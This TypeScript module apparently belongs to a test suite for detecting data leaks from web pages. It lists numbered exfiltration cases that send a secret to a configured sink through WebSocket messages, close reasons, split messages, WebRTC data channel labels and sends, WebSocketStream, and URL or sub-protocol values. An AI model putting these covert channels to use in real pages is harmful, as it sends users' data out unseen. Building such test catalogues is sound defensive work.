import { type Attack, row, type Secret, variant } from '../attack.ts';
import { note } from './bodies.ts';

declare global {
  interface Window {
    /** Carries an offer to the receiving peer, which lives in a page that nobody governs, and brings its answer back. */
    signal?: (offer: string) => Promise<string>;
    WebSocketStream?: new (url: string) => { readonly opened: Promise<{ readonly writable: WritableStream<string> }> };
  }
}

function socketAddress(secret: Secret): string {
  return `${secret.sink.replace(/^http/, 'ws')}socket`;
}

/** `label`: the text is the label of the channel; else it is sent over it. */
async function peer(secret: Secret, label?: string): Promise<void> {
  const connection = new RTCPeerConnection();
  const channel = connection.createDataChannel(label ?? 'notes');
  const { sink } = secret;
  channel.addEventListener('open', () => channel.send(JSON.stringify({ sink, text: label === undefined ? note(secret.text) : '' })));
  await connection.setLocalDescription();
  await new Promise<void>((resolve) => {
    if (connection.iceGatheringState === 'complete') resolve();
    connection.addEventListener('icegatheringstatechange', () => connection.iceGatheringState === 'complete' && resolve());
  });
  const answer = await window.signal?.(JSON.stringify(connection.localDescription));
  if (answer) await connection.setRemoteDescription(JSON.parse(answer) as RTCSessionDescriptionInit);
}

/** Connections that stay open. */
export const SOCKETS: readonly Attack[] = [
  row('9', 'WebSocket.send', (secret) => {
    const socket = new WebSocket(socketAddress(secret));
    socket.addEventListener('open', () => socket.send(note(secret.text)));
  }),
  row('79', 'reason of WebSocket.close', (secret) => {
    const socket = new WebSocket(socketAddress(secret));
    socket.addEventListener('open', () => socket.close(1000, secret.text.slice(0, 120)));
  }),
  variant(
    '34c',
    'split over messages of a socket',
    (secret) => {
      const socket = new WebSocket(socketAddress(secret));
      socket.addEventListener('open', () => {
        socket.send(note(secret.value.slice(0, 10)));
        setTimeout(() => socket.send(note(secret.value.slice(10))), 200);
      });
    },
    { sign: 'pieces' },
  ),
  row('80', 'label of a data channel', (secret) => peer(secret, secret.text), { patience: 2_500 }),
  row('24', 'RTCDataChannel.send', (secret) => peer(secret), { patience: 2_500 }),
  row('44', 'WebSocketStream', async (secret) => {
    if (!window.WebSocketStream) return;
    const { writable } = await new window.WebSocketStream(socketAddress(secret)).opened;
    await writable.getWriter().write(note(secret.text));
  }),
  variant('44b', 'WebTransport', () => undefined, { cannotRun: 'needs a server that speaks HTTP/3' }),
  row(
    '61',
    'WebSocket, value in the address and sub-protocol',
    (secret) => void new WebSocket(`${socketAddress(secret)}?q=${encodeURIComponent(secret.text)}`, [secret.value]),
  ),
  row('61b', 'WebSocket, value in the sub-protocol', (secret) => void new WebSocket(socketAddress(secret), [secret.value])),
];
